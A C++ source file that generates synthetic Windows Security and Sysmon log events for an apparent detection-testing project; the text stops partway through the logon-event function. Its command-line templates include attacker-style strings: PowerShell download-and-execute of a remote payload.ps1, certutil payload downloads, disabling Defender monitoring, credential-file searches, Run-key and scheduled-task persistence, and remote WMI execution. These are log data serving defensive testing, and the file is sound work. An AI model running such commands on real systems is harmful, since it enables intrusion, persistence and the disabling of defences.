// Synthetic Security / Sysmon events.
//
// Field sets and value types follow the Windows manifests of the events
// (as seen in real logs); values come from small simulated worlds (users,
// logon sessions, running processes) so that events relate to each other
// the way real ones do: a process creation names a parent that exists, a
// network connection names a running image, a logoff closes a logon id.

#include "vigil/synth/generator.h"

#include <algorithm>
#include <array>
#include <charconv>
#include <cstring>
#include <vector>

#include "vigil/core/limits.h"
#include "vigil/core/timestamp.h"

namespace vigil::synth {

namespace {

using evtx::DataItem;
using evtx::EventBody;
using evtx::EventSpec;
using evtx::Guid;
using evtx::Sid;
using evtx::TypedValue;

// xoshiro256** seeded through splitmix64: fast, and identical everywhere.
class Rng {
 public:
  explicit Rng(uint64_t seed) {
    for (uint64_t& s : s_) {
      seed += 0x9e3779b97f4a7c15ULL;
      uint64_t z = seed;
      z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
      z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
      s = z ^ (z >> 31);
    }
  }
  uint64_t next() {
    const uint64_t result = rotl(s_[1] * 5, 7) * 9;
    const uint64_t t = s_[1] << 17;
    s_[2] ^= s_[0];
    s_[3] ^= s_[1];
    s_[1] ^= s_[2];
    s_[0] ^= s_[3];
    s_[2] ^= t;
    s_[3] = rotl(s_[3], 45);
    return result;
  }
  // Uniform in [0, n).
  uint32_t below(uint32_t n) {
    return static_cast<uint32_t>(((next() >> 32) * static_cast<uint64_t>(n)) >> 32);
  }
  uint32_t between(uint32_t lo, uint32_t hi) { return lo + below(hi - lo + 1); }
  bool percent(uint32_t p) { return below(100) < p; }
  template <class T, size_t N>
  const T& pick(const std::array<T, N>& items) {
    return items[below(static_cast<uint32_t>(N))];
  }
  template <class T>
  const T& pick(const std::vector<T>& items) {
    return items[below(static_cast<uint32_t>(items.size()))];
  }
  Guid guid() {
    Guid g;
    const uint64_t a = next(), b = next();
    for (int i = 0; i < 8; ++i) {
      g.bytes[i] = static_cast<uint8_t>(a >> (8 * i));
      g.bytes[8 + i] = static_cast<uint8_t>(b >> (8 * i));
    }
    return g;
  }

 private:
  static uint64_t rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }
  uint64_t s_[4];
};

void add_dec(std::string& out, uint64_t v) {
  char buf[24];
  const auto r = std::to_chars(buf, buf + sizeof buf, v);
  out.append(buf, r.ptr);
}

void add_hex(std::string& out, uint64_t v, int width, bool upper) {
  const char* digits = upper ? "0123456789ABCDEF" : "0123456789abcdef";
  char buf[16];
  for (int i = width - 1; i >= 0; --i) {
    buf[i] = digits[v & 0xF];
    v >>= 4;
  }
  out.append(buf, static_cast<size_t>(width));
}

void add_padded(std::string& out, uint64_t v, int width) {
  char buf[20];
  for (int i = width - 1; i >= 0; --i) {
    buf[i] = static_cast<char>('0' + v % 10);
    v /= 10;
  }
  out.append(buf, static_cast<size_t>(width));
}

void add_random_hex(std::string& out, Rng& rng, size_t digits, bool upper) {
  while (digits > 0) {
    const int n = static_cast<int>(std::min<size_t>(digits, 16));
    add_hex(out, rng.next(), n, upper);
    digits -= static_cast<size_t>(n);
  }
}

void add_guid_text(std::string& out, const Guid& g) {
  static constexpr int kOrder[16] = {3, 2, 1, 0, 5, 4, 7, 6, 8, 9, 10, 11, 12, 13, 14, 15};
  out.push_back('{');
  for (int i = 0; i < 16; ++i) {
    if (i == 4 || i == 6 || i == 8 || i == 10) out.push_back('-');
    add_hex(out, g.bytes[kOrder[i]], 2, true);
  }
  out.push_back('}');
}

// Sysmon's UtcTime spelling: "2024-03-04 07:55:00.123".
void add_utc_time(std::string& out, Timestamp t) {
  const CivilTime c = to_civil(t);
  add_padded(out, static_cast<uint64_t>(c.year), 4);
  out.push_back('-');
  add_padded(out, c.month, 2);
  out.push_back('-');
  add_padded(out, c.day, 2);
  out.push_back(' ');
  add_padded(out, c.hour, 2);
  out.push_back(':');
  add_padded(out, c.minute, 2);
  out.push_back(':');
  add_padded(out, c.second, 2);
  out.push_back('.');
  add_padded(out, c.ticks / 10000, 3);
}

void add_ipv4(std::string& out, uint32_t a, uint32_t b, uint32_t c, uint32_t d) {
  add_dec(out, a);
  out.push_back('.');
  add_dec(out, b);
  out.push_back('.');
  add_dec(out, c);
  out.push_back('.');
  add_dec(out, d);
}

void add_base64(std::string& out, Rng& rng, size_t chars) {
  static constexpr char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  uint64_t bits = 0;
  int left = 0;
  for (size_t i = 0; i < chars; ++i) {
    if (left < 6) {
      bits = rng.next();
      left = 64;
    }
    out.push_back(kAlphabet[bits & 63]);
    bits >>= 6;
    left -= 6;
  }
}

// --- The simulated world -----------------------------------------------------

enum class Cmd : uint8_t {
  kPlain,
  kSvchost,
  kPowerShellEncoded,
  kPowerShellCommand,
  kCmd,
  kBrowser,
  kRundll32,
  kNet,
  kSchtasks,
  kConhost,
  kWmic,
  kReg,
  kMsiexec,
  kCertutil,
  kTaskhost,
  kOffice,
  kGit,
};

struct Image {
  const char* path;
  const char* description;
  const char* product;
  const char* company;
  const char* original_name;
  const char* version;
  Cmd cmd;
  uint32_t weight;  // how often it starts
};

constexpr const char* kMs = "Microsoft Corporation";
constexpr const char* kWin = "Microsoft\xC2\xAE Windows\xC2\xAE Operating System";
constexpr const char* kWinVer = "10.0.19041.3636 (WinBuild.160101.0800)";

const std::array<Image, 32> kImages = {{
    {"C:\\Windows\\System32\\svchost.exe", "Host Process for Windows Services", kWin, kMs,
     "svchost.exe", kWinVer, Cmd::kSvchost, 14},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "Windows PowerShell", kWin,
     kMs, "PowerShell.EXE", kWinVer, Cmd::kPowerShellEncoded, 6},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "Windows PowerShell", kWin,
     kMs, "PowerShell.EXE", kWinVer, Cmd::kPowerShellCommand, 6},
    {"C:\\Windows\\System32\\cmd.exe", "Windows Command Processor", kWin, kMs, "Cmd.Exe", kWinVer,
     Cmd::kCmd, 12},
    {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Google Chrome", "Google Chrome",
     "Google LLC", "chrome.exe", "122.0.6261.112", Cmd::kBrowser, 14},
    {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "Microsoft Edge",
     "Microsoft Edge", kMs, "msedge.exe", "122.0.2365.80", Cmd::kBrowser, 8},
    {"C:\\Windows\\System32\\rundll32.exe", "Windows host process (Rundll32)", kWin, kMs,
     "RUNDLL32.EXE", kWinVer, Cmd::kRundll32, 5},
    {"C:\\Windows\\System32\\net.exe", "Net Command", kWin, kMs, "net.exe", kWinVer, Cmd::kNet, 3},
    {"C:\\Windows\\System32\\net1.exe", "Net Command", kWin, kMs, "net1.exe", kWinVer, Cmd::kNet,
     2},
    {"C:\\Windows\\System32\\schtasks.exe", "Task Scheduler Configuration Tool", kWin, kMs,
     "schtasks.exe", kWinVer, Cmd::kSchtasks, 2},
    {"C:\\Windows\\System32\\conhost.exe", "Console Window Host", kWin, kMs, "CONHOST.EXE", kWinVer,
     Cmd::kConhost, 12},
    {"C:\\Windows\\System32\\wbem\\WMIC.exe", "WMI Commandline Utility", kWin, kMs, "wmic.exe",
     kWinVer, Cmd::kWmic, 2},
    {"C:\\Windows\\System32\\reg.exe", "Registry Console Tool", kWin, kMs, "reg.exe", kWinVer,
     Cmd::kReg, 2},
    {"C:\\Windows\\System32\\msiexec.exe", "Windows\xC2\xAE installer",
     "Windows Installer - Unicode", kMs, "msiexec.exe", "5.0.19041.3636 (WinBuild.160101.0800)",
     Cmd::kMsiexec, 2},
    {"C:\\Windows\\System32\\certutil.exe", "CertUtil.exe", kWin, kMs, "CertUtil.exe", kWinVer,
     Cmd::kCertutil, 1},
    {"C:\\Windows\\System32\\taskhostw.exe", "Host Process for Windows Tasks", kWin, kMs,
     "taskhostw.exe", kWinVer, Cmd::kTaskhost, 5},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "Microsoft Word",
     "Microsoft Office", kMs, "WinWord.exe", "16.0.17328.20184", Cmd::kOffice, 3},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Microsoft Excel",
     "Microsoft Office", kMs, "Excel.exe", "16.0.17328.20184", Cmd::kOffice, 3},
    {"C:\\Program Files\\Git\\cmd\\git.exe", "Git for Windows", "Git",
     "The Git Development Community", "git.exe", "2.44.0.windows.1", Cmd::kGit, 3},
    {"C:\\Windows\\System32\\SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host",
     kWin, kMs, "SearchProtocolHost.exe", kWinVer, Cmd::kPlain, 4},
    {"C:\\Windows\\System32\\backgroundTaskHost.exe", "Background Task Host", kWin, kMs,
     "backgroundTaskHost.exe", kWinVer, Cmd::kPlain, 4},
    {"C:\\Windows\\System32\\RuntimeBroker.exe", "Runtime Broker", kWin, kMs, "RuntimeBroker.exe",
     kWinVer, Cmd::kPlain, 4},
    {"C:\\Windows\\System32\\dllhost.exe", "COM Surrogate", kWin, kMs, "dllhost.exe", kWinVer,
     Cmd::kPlain, 4},
    {"C:\\Windows\\System32\\wermgr.exe", "Windows Problem Reporting", kWin, kMs, "WerMgr", kWinVer,
     Cmd::kPlain, 1},
    {"C:\\Windows\\System32\\whoami.exe", "whoami - displays logged on user information", kWin, kMs,
     "whoami.exe", kWinVer, Cmd::kPlain, 1},
    {"C:\\Windows\\System32\\ipconfig.exe", "IP Configuration Utility", kWin, kMs, "ipconfig.exe",
     kWinVer, Cmd::kPlain, 1},
    {"C:\\Windows\\System32\\notepad.exe", "Notepad", kWin, kMs, "NOTEPAD.EXE", kWinVer,
     Cmd::kPlain, 2},
    {"C:\\Windows\\explorer.exe", "Windows Explorer", kWin, kMs, "EXPLORER.EXE", kWinVer,
     Cmd::kPlain, 1},
    {"C:\\Windows\\System32\\lsass.exe", "Local Security Authority Process", kWin, kMs, "lsass.exe",
     kWinVer, Cmd::kPlain, 0},
    {"C:\\Windows\\System32\\services.exe", "Services and Controller app", kWin, kMs,
     "services.exe", kWinVer, Cmd::kPlain, 0},
    {"C:\\Windows\\System32\\wininit.exe", "Windows Start-Up Application", kWin, kMs, "wininit.exe",
     kWinVer, Cmd::kPlain, 0},
    {"C:\\Users\\Public\\Downloads\\upd\xC3\xA4te_helper.exe", "-", "-", "-", "-", "-", Cmd::kPlain,
     1},
}};
constexpr uint16_t kLsass = 28;
constexpr uint16_t kServices = 29;
constexpr uint16_t kWininit = 30;
constexpr uint16_t kExplorer = 27;

const std::array<const char*, 24> kFirstNames = {
    "alice", "bob",    "carol",   "dave",   "erin",       "frank",        "grace",  "heidi",
    "ivan",  "judy",   "mallory", "niaj",   "olivia",     "peggy",        "rupert", "sybil",
    "trent", "victor", "walter",  "yvonne", "zo\xC3\xAB", "bj\xC3\xB6rn", "ji-woo", "sven"};
const std::array<const char*, 12> kLastNames = {"smith",         "jones",    "nguyen",  "garcia",
                                                "m\xC3\xBCller", "kowalski", "tanaka",  "okafor",
                                                "dubois",        "rossi",    "ivanova", "o'brien"};

const std::array<const char*, 16> kExternalHosts = {
    "www.google.com",
    "login.microsoftonline.com",
    "outlook.office365.com",
    "github.com",
    "update.googleapis.com",
    "settings-win.data.microsoft.com",
    "cdn.jsdelivr.net",
    "api.slack.com",
    "ocsp.digicert.com",
    "ctldl.windowsupdate.com",
    "teams.microsoft.com",
    "s3.amazonaws.com",
    "raw.githubusercontent.com",
    "pastebin.com",
    "",
    "a23-45-67-89.deploy.static.akamaitechnologies.com"};

struct Port {
  uint16_t number;
  const char* name;
};
const std::array<Port, 10> kPorts = {{{443, "https"},
                                      {80, "http"},
                                      {53, "domain"},
                                      {445, "microsoft-ds"},
                                      {135, "epmap"},
                                      {389, "ldap"},
                                      {88, "kerberos"},
                                      {3389, "ms-wbt-server"},
                                      {8080, "http-alt"},
                                      {5985, "wsman"}}};

const std::array<const char*, 12> kPrivileges = {"SeAssignPrimaryTokenPrivilege",
                                                 "SeTcbPrivilege",
                                                 "SeSecurityPrivilege",
                                                 "SeTakeOwnershipPrivilege",
                                                 "SeLoadDriverPrivilege",
                                                 "SeBackupPrivilege",
                                                 "SeRestorePrivilege",
                                                 "SeDebugPrivilege",
                                                 "SeAuditPrivilege",
                                                 "SeSystemEnvironmentPrivilege",
                                                 "SeImpersonatePrivilege",
                                                 "SeDelegateSessionUserImpersonatePrivilege"};

const std::array<const char*, 8> kServicesK = {"netsvcs -p -s Schedule",
                                               "LocalServiceNetworkRestricted -p",
                                               "DcomLaunch -p",
                                               "RPCSS -p",
                                               "netsvcs -p -s gpsvc",
                                               "LocalSystemNetworkRestricted -p -s SysMain",
                                               "NetworkService -p -s Dnscache",
                                               "UnistackSvcGroup"};

const std::array<const char*, 10> kRunKeys = {
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\",
    "HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\",
    "HKLM\\System\\CurrentControlSet\\Services\\",
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Features\\",
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\",
    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging\\",
    "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\",
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\Run\\",
    "HKLM\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\Internet\\",
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\"};

const std::array<const char*, 8> kFileExtensions = {".tmp",  ".dll",  ".exe", ".ps1",
                                                    ".docx", ".xlsx", ".zip", ".log"};

struct Account {
  std::string name;
  std::string domain;
  std::string sid_text;
  Sid sid;
};

struct Process {
  uint32_t pid = 0;
  Guid guid;
  uint16_t image = 0;
  uint16_t account = 0;
  uint64_t logon_id = 0;
  std::string command_line;
  uint8_t integrity = 0;  // 0 Medium, 1 High, 2 System
};

struct Session {
  uint16_t account = 0;
  uint64_t logon_id = 0;
  uint32_t logon_type = 0;
};

constexpr const char* kIntegrity[] = {"Medium", "High", "System"};
constexpr const char* kIntegritySid[] = {"S-1-16-8192", "S-1-16-12288", "S-1-16-16384"};

}  // namespace

std::optional<Kind> parse_kind(std::string_view text) {
  if (text == "security") return Kind::kSecurity;
  if (text == "sysmon") return Kind::kSysmon;
  if (text == "mixed") return Kind::kMixed;
  return std::nullopt;
}

const char* kind_name(Kind kind) {
  switch (kind) {
    case Kind::kSecurity: return "security";
    case Kind::kSysmon: return "sysmon";
    case Kind::kMixed: return "mixed";
  }
  return "?";
}

struct Generator::State {
  State(Kind k, uint64_t seed) : kind(k), rng(seed ^ 0x5eed5eed5eed5eedULL) { build_world(); }

  Kind kind;
  Rng rng;
  Timestamp now;
  std::string computer;
  std::string machine_account;
  std::string dns_domain = "corp.example.com";
  std::string netbios_domain = "CORP";
  std::string local_ip;
  uint32_t ip_octet3 = 0, ip_octet4 = 0;
  std::vector<Account>
      accounts;  // [0] SYSTEM, [1] LOCAL SERVICE, [2] NETWORK SERVICE, [3] machine, users after
  size_t first_user = 4;
  std::vector<std::string> image_hashes;  // per kImages entry
  std::vector<Process> processes;
  std::vector<Session> sessions;
  uint32_t image_weight_total = 0;
  uint32_t machine_guid_prefix = 0;
  uint32_t lsass_pid = 0, sysmon_pid = 0;
  uint64_t sequence = 0;  // events generated
  Guid security_provider = *Guid::parse("{54849625-5478-4994-A5BA-3E3B0328C30D}");
  Guid eventlog_provider = *Guid::parse("{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}");
  Guid sysmon_provider = *Guid::parse("{5770385F-C22A-43E0-BF4C-06F5698FFBD9}");
  Sid system_sid = *Sid::parse("S-1-5-18");
  Sid null_sid = *Sid::parse("S-1-0-0");
  std::array<Sid, 3> integrity_sids = {*Sid::parse(kIntegritySid[0]), *Sid::parse(kIntegritySid[1]),
                                       *Sid::parse(kIntegritySid[2])};
  std::vector<DataItem> spare;  // items taken back from shorter events, reused by longer ones
  std::string text;             // scratch for values being built
  size_t used = 0;              // items of the event being filled

  void build_world() {
    now = parse_rfc3339("2024-03-04T07:55:00Z");
    now.ticks += static_cast<int64_t>(rng.below(86400)) * Timestamp::kTicksPerSecond;
    computer = "WKS-";
    add_padded(computer, rng.below(10000), 4);
    machine_account = computer + "$";
    computer += "." + dns_domain;
    ip_octet3 = rng.between(1, 254);
    ip_octet4 = rng.between(2, 254);
    add_ipv4(local_ip, 10, 20, ip_octet3, ip_octet4);
    machine_guid_prefix = static_cast<uint32_t>(rng.next());
    lsass_pid = 4 * rng.between(150, 250);
    sysmon_pid = 4 * rng.between(600, 1200);

    std::string domain_sid = "S-1-5-21-";
    add_dec(domain_sid, rng.next() & 0xFFFFFFFF);
    domain_sid.push_back('-');
    add_dec(domain_sid, rng.next() & 0xFFFFFFFF);
    domain_sid.push_back('-');
    add_dec(domain_sid, rng.next() & 0xFFFFFFFF);
    auto account = [&](std::string name, std::string domain, std::string sid) {
      Account a{std::move(name), std::move(domain), std::move(sid), {}};
      a.sid = *Sid::parse(a.sid_text);
      accounts.push_back(std::move(a));
    };
    account("SYSTEM", "NT AUTHORITY", "S-1-5-18");
    account("LOCAL SERVICE", "NT AUTHORITY", "S-1-5-19");
    account("NETWORK SERVICE", "NT AUTHORITY", "S-1-5-20");
    account(machine_account, netbios_domain,
            domain_sid + "-" + std::to_string(rng.between(1500, 9000)));
    for (uint32_t i = 0; i < 40; ++i) {
      std::string name = rng.pick(kFirstNames);
      name.push_back('.');
      name += rng.pick(kLastNames);
      if (i >= 30) name = "svc_" + name.substr(0, name.find('.'));
      account(name, netbios_domain, domain_sid + "-" + std::to_string(1104 + i * 3));
    }

    for (size_t i = 0; i < kImages.size(); ++i) {
      image_weight_total += kImages[i].weight;
      std::string h = "SHA1=";
      add_random_hex(h, rng, 40, true);
      h += ",MD5=";
      add_random_hex(h, rng, 32, true);
      h += ",SHA256=";
      add_random_hex(h, rng, 64, true);
      h += ",IMPHASH=";
      add_random_hex(h, rng, 32, true);
      image_hashes.push_back(std::move(h));
    }
    for (uint32_t i = 0; i < 24; ++i) {
      Session s;
      s.account = static_cast<uint16_t>(
          first_user + rng.below(static_cast<uint32_t>(accounts.size() - first_user)));
      s.logon_id = 0x100000 + (rng.next() & 0xFFFFFFF);
      s.logon_type = rng.percent(60) ? 3 : 2;
      sessions.push_back(s);
    }
    // Long-running processes first, then a pool that process creation churns.
    for (uint16_t image : {kWininit, kServices, kLsass, kExplorer}) {
      Process p;
      p.image = image;
      p.account = image == kExplorer ? sessions[0].account : 0;
      p.logon_id = image == kExplorer ? sessions[0].logon_id : 0x3e7;
      p.integrity = image == kExplorer ? 0 : 2;
      p.pid = image == kLsass ? lsass_pid : 4 * rng.between(100, 2000);
      p.guid = process_guid();
      p.command_line = kImages[image].path;
      processes.push_back(std::move(p));
    }
    while (processes.size() < 96) processes.push_back(new_process(processes[rng.below(4)]));
  }

  Guid process_guid() {
    Guid g = rng.guid();
    std::memcpy(g.bytes.data(), &machine_guid_prefix, 4);
    const auto seconds = static_cast<uint32_t>(now.ticks / Timestamp::kTicksPerSecond);
    std::memcpy(g.bytes.data() + 4, &seconds, 4);
    g.bytes[8] = 0;
    g.bytes[9] = 0;
    return g;
  }

  uint16_t pick_image() {
    uint32_t r = rng.below(image_weight_total);
    for (size_t i = 0; i < kImages.size(); ++i) {
      if (r < kImages[i].weight) return static_cast<uint16_t>(i);
      r -= kImages[i].weight;
    }
    return 0;
  }

  const Account& user_account() {
    return accounts[first_user + rng.below(static_cast<uint32_t>(accounts.size() - first_user))];
  }

  void add_user_path(std::string& out, const Account& a) {
    out += "C:\\Users\\";
    out += a.name;
  }

  void build_command_line(std::string& out, const Process& p) {
    const Image& image = kImages[p.image];
    const Account& user = accounts[p.account];
    out.clear();
    switch (image.cmd) {
      case Cmd::kPlain:
        out.push_back('"');
        out += image.path;
        out.push_back('"');
        if (rng.percent(40)) {
          out += " -Embedding";
        } else if (rng.percent(30)) {
          out += " /n ";
          add_dec(out, rng.below(100000));
        }
        break;
      case Cmd::kSvchost:
        out += "C:\\Windows\\system32\\svchost.exe -k ";
        out += rng.pick(kServicesK);
        break;
      case Cmd::kPowerShellEncoded:
        out +=
            "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -WindowStyle Hidden "
            "-EncodedCommand ";
        add_base64(out, rng, 4 * rng.between(40, 700));
        break;
      case Cmd::kPowerShellCommand:
        out += "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -Command \"";
        switch (rng.below(4)) {
          case 0:
            out += "Get-ChildItem -Path '";
            add_user_path(out, user);
            out +=
                "\\Documents' -Recurse -Include *.docx,*.xlsx,*.pdf | Select-Object "
                "FullName,Length | Export-Csv -NoTypeInformation C:\\Windows\\Temp\\";
            add_random_hex(out, rng, 8, false);
            out += ".csv";
            break;
          case 1:
            out += "IEX (New-Object Net.WebClient).DownloadString('https://";
            out += rng.pick(kExternalHosts);
            out += "/";
            add_random_hex(out, rng, 12, false);
            out += "/payload.ps1')";
            break;
          case 2:
            out += "Get-WinEvent -LogName Security -MaxEvents ";
            add_dec(out, rng.between(10, 5000));
            out += " | Where-Object { $_.Id -eq 4624 } | Format-List";
            break;
          default:
            out += "& {Set-MpPreference -DisableRealtimeMonitoring $";
            out += rng.percent(50) ? "true" : "false";
            out += "; Start-Sleep -Seconds ";
            add_dec(out, rng.below(600));
            out += "}";
        }
        out.push_back('"');
        break;
      case Cmd::kCmd:
        out += "C:\\Windows\\system32\\cmd.exe /c ";
        switch (rng.below(3)) {
          case 0:
            out += "\"";
            add_user_path(out, user);
            out += "\\AppData\\Local\\Temp\\";
            add_random_hex(out, rng, 8, false);
            out += ".bat\" ";
            add_dec(out, rng.below(1000));
            break;
          case 1:
            out += "whoami /all > C:\\Windows\\Temp\\";
            add_random_hex(out, rng, 6, false);
            out += ".txt 2>&1";
            break;
          default:
            out += "dir /s /b \"";
            add_user_path(out, user);
            out += "\\Desktop\" | findstr /i \"password secret vpn\"";
        }
        break;
      case Cmd::kBrowser:
        out.push_back('"');
        out += image.path;
        out +=
            "\" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US "
            "--device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation "
            "--renderer-client-id=";
        add_dec(out, rng.between(5, 400));
        out += " --time-ticks-at-unix-epoch=-";
        add_dec(out, 1700000000000000ULL + (rng.next() % 10000000000000ULL));
        out += " --launch-time-ticks=";
        add_dec(out, rng.next() % 100000000000ULL);
        out += " --mojo-platform-channel-handle=";
        add_dec(out, rng.between(1000, 9999));
        out += " --field-trial-handle=";
        add_dec(out, rng.between(1000, 9999));
        out += ",i,";
        add_random_hex(out, rng, 16, false);
        out += ",";
        add_random_hex(out, rng, 16, false);
        out += ",262144 /prefetch:1";
        break;
      case Cmd::kRundll32:
        out += "C:\\Windows\\system32\\rundll32.exe ";
        if (rng.percent(70)) {
          out += "C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {";
          add_random_hex(out, rng, 8, false);
          out += "-bd3f-4c2b-a7e1-";
          add_random_hex(out, rng, 12, false);
          out += "} -Embedding";
        } else {
          add_user_path(out, user);
          out += "\\AppData\\Roaming\\";
          add_random_hex(out, rng, 10, false);
          out += ".dll,DllRegisterServer";
        }
        break;
      case Cmd::kNet:
        out += "net ";
        if (rng.percent(50)) {
          out += "user ";
          out += user_account().name;
          out += " /domain";
        } else {
          out += "group \"Domain Admins\" /domain";
        }
        break;
      case Cmd::kSchtasks:
        out += "schtasks /create /tn \"\\Microsoft\\Windows\\Update\\";
        add_random_hex(out, rng, 8, true);
        out += "\" /tr \"";
        add_user_path(out, user);
        out += "\\AppData\\Local\\";
        add_random_hex(out, rng, 6, false);
        out += ".exe\" /sc daily /st 0";
        add_dec(out, rng.below(10));
        out += ":00 /f";
        break;
      case Cmd::kConhost:
        out += "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1";
        break;
      case Cmd::kWmic:
        out += "wmic /node:\"10.20.";
        add_dec(out, rng.between(1, 254));
        out += ".";
        add_dec(out, rng.between(1, 254));
        out += "\" process call create \"cmd.exe /c ";
        add_random_hex(out, rng, 8, false);
        out += ".bat\"";
        break;
      case Cmd::kReg:
        out += "reg add \"";
        out += rng.pick(kRunKeys);
        out += "\" /v ";
        add_random_hex(out, rng, 6, false);
        out += " /t REG_SZ /d \"";
        add_user_path(out, user);
        out += "\\AppData\\Local\\Temp\\";
        add_random_hex(out, rng, 8, false);
        out += ".exe\" /f";
        break;
      case Cmd::kMsiexec: out += "C:\\Windows\\system32\\msiexec.exe /V"; break;
      case Cmd::kCertutil:
        out += "certutil.exe -urlcache -split -f https://";
        out += rng.pick(kExternalHosts);
        out += "/";
        add_random_hex(out, rng, 16, false);
        out += ".txt C:\\Users\\Public\\";
        add_random_hex(out, rng, 6, false);
        out += ".exe";
        break;
      case Cmd::kTaskhost:
        out += "taskhostw.exe {";
        add_random_hex(out, rng, 8, true);
        out += "-5E2B-4D0C-9E3A-";
        add_random_hex(out, rng, 12, true);
        out += "}";
        break;
      case Cmd::kOffice:
        out.push_back('"');
        out += image.path;
        out += "\" /n \"";
        add_user_path(out, user);
        out += "\\Downloads\\Invoice_";
        add_dec(out, rng.between(10000, 99999));
        out += rng.percent(50) ? ".docm\" /o \"\"" : ".xlsx\" /o \"\"";
        break;
      case Cmd::kGit:
        out += "\"C:\\Program Files\\Git\\cmd\\git.exe\" ";
        out += rng.percent(50) ? "fetch --prune origin" : "status --porcelain=v2 --branch";
        break;
    }
  }

  Process new_process(const Process& parent) {
    Process p;
    p.image = pick_image();
    p.pid = 4 * rng.between(100, 16000);
    p.guid = process_guid();
    if (rng.percent(70) && parent.account >= first_user) {
      p.account = parent.account;
      p.logon_id = parent.logon_id;
      p.integrity = rng.percent(80) ? 0 : 1;
    } else if (rng.percent(50)) {
      const Session& s = rng.pick(sessions);
      p.account = s.account;
      p.logon_id = s.logon_id;
      p.integrity = rng.percent(85) ? 0 : 1;
    } else {
      p.account = 0;
      p.logon_id = 0x3e7;
      p.integrity = 2;
    }
    build_command_line(p.command_line, p);
    return p;
  }

  // --- Filling an EventSpec ----------------------------------------------------

  void begin(EventSpec& e) {
    used = 0;
    (void)e;
  }

  TypedValue& item(EventSpec& e, const char* name) {
    if (used == e.data.size()) {
      if (!spare.empty()) {
        e.data.push_back(std::move(spare.back()));
        spare.pop_back();
      } else {
        e.data.emplace_back();
      }
    }
    DataItem& d = e.data[used++];
    d.name.assign(name);
    return d.value;
  }

  void end(EventSpec& e) {
    while (e.data.size() > used) {
      spare.push_back(std::move(e.data.back()));
      e.data.pop_back();
    }
  }

  void str(EventSpec& e, const char* name, std::string_view value) {
    item(e, name).set_string(value);
  }
  void hex64(EventSpec& e, const char* name, uint64_t v) { item(e, name).set_hex64(v); }
  void u32(EventSpec& e, const char* name, uint32_t v) { item(e, name).set_uint32(v); }
  void sid(EventSpec& e, const char* name, const Sid& s) { item(e, name).set_sid(s); }

  void system(EventSpec& e, const char* provider, const Guid& provider_guid, uint16_t id,
              uint8_t version, uint8_t level, uint16_t task, uint64_t keywords,
              const char* channel) {
    e.provider_name.assign(provider);
    e.provider_guid = provider_guid;
    e.event_source_name.clear();
    e.event_id = id;
    e.qualifiers.reset();
    e.version = version;
    e.level = level;
    e.task = task;
    e.opcode = 0;
    e.keywords = keywords;
    e.time_created = now;
    e.record_id = 0;
    e.activity_id.reset();
    e.related_activity_id.reset();
    e.channel.assign(channel);
    e.computer.assign(computer);
    e.user_id.reset();
    e.body = EventBody::kEventData;
    e.user_data_element.clear();
    e.user_data_attributes.clear();
  }

  void security_system(EventSpec& e, uint16_t id, uint8_t version, uint16_t task,
                       bool success = true) {
    system(e, "Microsoft-Windows-Security-Auditing", security_provider, id, version, 0, task,
           success ? 0x8020000000000000ULL : 0x8010000000000000ULL, "Security");
    e.process_id = lsass_pid;
    e.thread_id = lsass_pid + 4 * rng.between(1, 60);
  }

  void subject(EventSpec& e, const Account& a, uint64_t logon_id) {
    sid(e, "SubjectUserSid", a.sid);
    str(e, "SubjectUserName", a.name);
    str(e, "SubjectDomainName", a.domain);
    hex64(e, "SubjectLogonId", logon_id);
  }

  // What Windows writes when no subject applies (network logons, failures).
  void null_subject(EventSpec& e) {
    sid(e, "SubjectUserSid", null_sid);
    str(e, "SubjectUserName", "-");
    str(e, "SubjectDomainName", "-");
    hex64(e, "SubjectLogonId", 0);
  }

  Timestamp before_now(uint32_t max_seconds) {
    return Timestamp{now.ticks -
                     Timestamp::kTicksPerSecond * static_cast<int64_t>(rng.below(max_seconds))};
  }

  void remote_address(std::string& out) {
    out.clear();
    if (rng.percent(85)) {
      add_ipv4(out, 10, 20, rng.between(1, 254), rng.between(1, 254));
    } else {
      add_ipv4(out, rng.between(11, 223), rng.below(256), rng.below(256), rng.between(1, 254));
    }
  }

  // 4624: an account logged on.
  void logon(EventSpec& e) {
    security_system(e, 4624, 2, 12544);
    Session& s = sessions[rng.below(static_cast<uint32_t>(sessions.size()))];
    s.logon_id = 0x100000 + (rng.next() & 0xFFFFFFFF);
    static constexpr uint32_t kTypes[] = {2, 3, 3, 3, 3, 5, 7, 10, 11, 3};
    s.logon_type = kTypes[rng.below(10)];
    const bool service = s.logon_type == 5;
    const Account& target = service ? accounts[rng.below(3)] : accounts[s.account];
    const bool network = s.logon_type == 3 || s.logon_type == 10;
